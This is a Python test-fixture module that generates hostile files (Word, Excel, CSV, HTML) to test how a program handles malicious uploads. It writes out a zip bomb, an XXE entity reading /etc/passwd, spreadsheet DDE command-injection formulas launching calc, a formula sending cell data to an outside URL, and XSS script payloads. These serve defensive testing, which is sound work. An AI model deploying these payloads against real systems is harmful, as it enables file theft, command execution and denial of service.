"""Files that nobody should be able to harm the program with, written by name: `hostile(kind, folder)`."""

import zipfile
from collections.abc import Callable
from pathlib import Path

import xlsxwriter

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
HEAD = ("TT", "Nhiệm vụ", "Cơ quan chủ trì", "Thời hạn")
TASK = ("1", "Xây dựng đề án", "Sở Tài chính", "6/2026")


def hostile(kind: str, folder: Path) -> Path:
    """The file of this kind; its name ends as an innocent one would."""
    return KINDS[kind](folder)


def _word(folder: Path, body: str, before: str = "", **more: bytes) -> Path:
    path = folder / "phu-luc.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        document = f'{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
        archive.writestr("word/document.xml", document)
        for name, content in more.items():
            archive.writestr(f"word/{name.replace('__', '/').replace('_dot_', '.')}", content)
    return path


def _table(*rows: tuple[str, ...]) -> str:
    cells = "".join("<w:tr>" + "".join(f"<w:tc>{_cell(text)}</w:tc>" for text in row) + "</w:tr>" for row in rows)
    return f"<w:tbl>{cells}</w:tbl>"


def _cell(text: str) -> str:
    return text if text.startswith("<w:") else f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _zip_bomb(folder: Path) -> Path:
    return _word(folder, _table(HEAD, TASK), media__image1_dot_png=bytes(100 << 20))


def _external_entity(folder: Path) -> Path:
    declaration = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return _word(folder, _table(HEAD, ("1", "&a;", "", "")), before=declaration)


def _macro(folder: Path) -> Path:
    return _word(folder, _table(HEAD, TASK), vbaProject_dot_bin=b"x")


def _truncated(folder: Path) -> Path:
    path = _word(folder, _table(HEAD, TASK))
    path.write_bytes(path.read_bytes()[:-40])
    return path


def _thousand_columns(folder: Path) -> Path:
    return _word(folder, _table(tuple(map(str, range(1_000)))))


def _nested_tables(folder: Path) -> Path:
    inner = "<w:p/>"
    for _depth in range(10):
        inner = _table((inner,)) + "<w:p/>"
    return _word(folder, _table(HEAD, ("1", inner, "", "")))


def _workbook(folder: Path, name: str) -> Path:
    path = folder / name
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEAD)
        sheet.write_row(1, 0, TASK)
        sheet.write(2, 0, "2")
        sheet.write_formula(2, 1, '=HYPERLINK("http://example.invalid/"&A1,"Nhiệm vụ")', value="Nhiệm vụ tính ra")
        sheet.write_formula(2, 2, "=cmd|' /C calc'!A0", value="Sở Y tế")
    return path


def _text(folder: Path, content: bytes, name: str = "phu-luc.csv") -> Path:
    path = folder / name
    path.write_bytes(content)
    return path


def _lines(*rows: tuple[str, ...]) -> bytes:
    return "\n".join(";".join(row) for row in rows).encode()


KINDS: dict[str, Callable[[Path], Path]] = {
    "zip bomb": _zip_bomb,
    "external entity": _external_entity,
    "macro": _macro,
    "truncated zip": _truncated,
    "thousand columns": _thousand_columns,
    "nested tables": _nested_tables,
    "larger than the limit": lambda folder: _text(folder, b"1;2;3;4\n" * (31 << 17)),
    "one endless line": lambda folder: _text(folder, b"x" * (20 << 20)),
    "null bytes": lambda folder: _text(folder, _lines(HEAD) + b"\n1;\x00\x00\x00;\x00\n" * 50),
    "program": lambda folder: _text(folder, b"MZ\x90\x00\x03\x00\x00\x00" + bytes(400)),
    "nothing": lambda folder: _text(folder, b""),
    "wrong extension": lambda folder: _workbook(folder, "phu-luc.docx"),
    "formulas in a workbook": lambda folder: _workbook(folder, "phu-luc.xlsx"),
    "formulas in a csv": lambda folder: _text(folder, _lines(HEAD, ("1", "=1+cmd|' /C calc'!A0", "@SUM(A1)", "2026"))),
    "script in a page": lambda folder: _text(
        folder,
        b"<html><table><tr><td>TT</td><td>Nhi\xe1\xbb\x87m v\xe1\xbb\xa5</td></tr><tr><td>1</td><td>"
        b"<script>alert(1)</script><img src=x onerror=alert(2)>Vi\xe1\xbb\x87c</td></tr></table></html>",
        "phu-luc.html",
    ),
}
